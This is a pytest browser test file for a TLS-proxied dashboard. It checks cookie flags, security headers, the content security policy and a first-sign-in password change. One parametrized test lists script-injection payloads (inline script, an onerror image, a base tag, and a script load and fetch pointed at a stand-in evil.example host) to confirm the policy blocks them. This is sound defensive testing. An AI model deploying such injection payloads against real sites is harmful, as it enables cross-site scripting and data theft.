"""The dashboard behind a proxy that ends TLS, as a real browser finds it: cookies, headers, policy, password."""

import shutil
from urllib.parse import urlsplit

import pytest

from dashboard.cookies import COOKIE, DEVICE
from dashboard.pages import PAGES
from experiments.model.access.principal import SYSTEM
from experiments.services.access.granting_users import create_user
from experiments.settings import Settings
from experiments.store.core.engine import engine_for
from tests.conftest import skip_without_service
from tests.dashboard.browser.conftest import PASSWORD, Visitor, run_site
from tests.dashboard.browser.tls import tls_before

OWN = "purple anvil kettle moss"
VIOLATIONS = """window.violations = [];
document.addEventListener("securitypolicyviolation",
    (one) => window.violations.push(`${one.violatedDirective}: ${one.blockedURI} ${one.sample}`));"""


@pytest.fixture(scope="module")
def secured(sqlite_template, tmp_path_factory):
    """The address of a dashboard behind TLS, without data, and its settings."""
    if shutil.which("openssl") is None:
        skip_without_service("no openssl on the PATH makes the certificate")
    folder = tmp_path_factory.mktemp("tls")
    shutil.copy(sqlite_template, folder / "winback.db")
    settings = Settings(database_url=f"sqlite:///{folder}/winback.db", trusted_proxies="127.0.0.1", _env_file=None)
    for site in run_site(settings):
        with tls_before(urlsplit(site.url).port, folder) as address:
            yield address, settings


@pytest.fixture
def visitor(secured, browser):
    """A browser of its own, in which nobody has signed in yet, and that tells what the policy stopped."""
    context = browser.browser.new_context(ignore_https_errors=True)
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(30_000)
    visitor = Visitor(page, secured[0])
    page.on("console", lambda told: visitor.faults.append(told.text) if told.type == "error" else None)
    page.on("pageerror", lambda error: visitor.faults.append(str(error)))
    yield visitor
    context.close()


def sign_in(visitor, email, password):
    page = visitor.page
    page.goto(f"{visitor.url}/sign-in")
    page.fill("#email", email)
    page.fill("#password", password)
    page.get_by_role("button", name="Sign in").click()


def test_cookies_are_secure_and_no_script_sees_them(visitor):
    sign_in(visitor, "admin@example.com", PASSWORD)
    visitor.settled()
    kept = {cookie["name"]: cookie for cookie in visitor.page.context.cookies()}
    for name in (COOKIE, DEVICE):
        assert (kept[name]["secure"], kept[name]["httpOnly"], kept[name]["sameSite"]) == (True, True, "Lax")
    assert visitor.page.evaluate("document.cookie") == ""


def test_headers_as_the_browser_reads_them(visitor):
    sign_in(visitor, "admin@example.com", PASSWORD)
    answer = visitor.page.goto(visitor.url + "/campaign")
    headers = answer.all_headers()
    assert headers["strict-transport-security"] == "max-age=31536000"
    assert headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in headers["content-security-policy"]


def test_the_policy_stops_nothing_of_ours_on_any_page(visitor):
    sign_in(visitor, "admin@example.com", PASSWORD)
    visitor.settled()
    for page in PAGES.values():
        visitor.open(page.path)
        assert visitor.page.evaluate("window.violations") == [], page.path
    visitor.page.goto(visitor.url + "/account")
    assert visitor.page.evaluate("window.violations") == []
    assert not visitor.faults


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.harmed = 1'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.harmed = 1\">')",
        "setTimeout('window.harmed = 1')",
        "document.body.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
        "fetch('https://evil.example/').catch(() => 0)",
    ],
)
def test_the_policy_stops_what_an_injection_would_do(visitor, attack):
    sign_in(visitor, "admin@example.com", PASSWORD)
    visitor.open("/campaign")
    visitor.page.evaluate(f"() => {{ {attack}; return new Promise((done) => setTimeout(done, 300)); }}")
    assert visitor.page.evaluate("window.violations") != []
    assert visitor.page.evaluate("window.harmed") is None


def test_a_first_sign_in_asks_for_a_password_of_ones_own(visitor, secured):
    engine = engine_for(secured[1])
    create_user(engine, SYSTEM, "new@example.com", PASSWORD, "viewer")
    engine.dispose()
    sign_in(visitor, "new@example.com", PASSWORD)
    page = visitor.page
    page.wait_for_url("**/account")
    assert not visitor.serious()
    page.goto(visitor.url + "/campaign")
    assert urlsplit(page.url).path == "/account"
    for field, value in (("#current", PASSWORD), ("#wanted", OWN), ("#again", OWN)):
        page.fill(field, value)
    page.get_by_role("button", name="Change the password").click()
    visitor.settled()
    page.get_by_role("link", name="Your account").click()
    page.wait_for_selector("#wanted")
    page.get_by_role("button", name="Sign out").click()
    sign_in(visitor, "new@example.com", OWN)
    visitor.settled()
    assert not visitor.faults
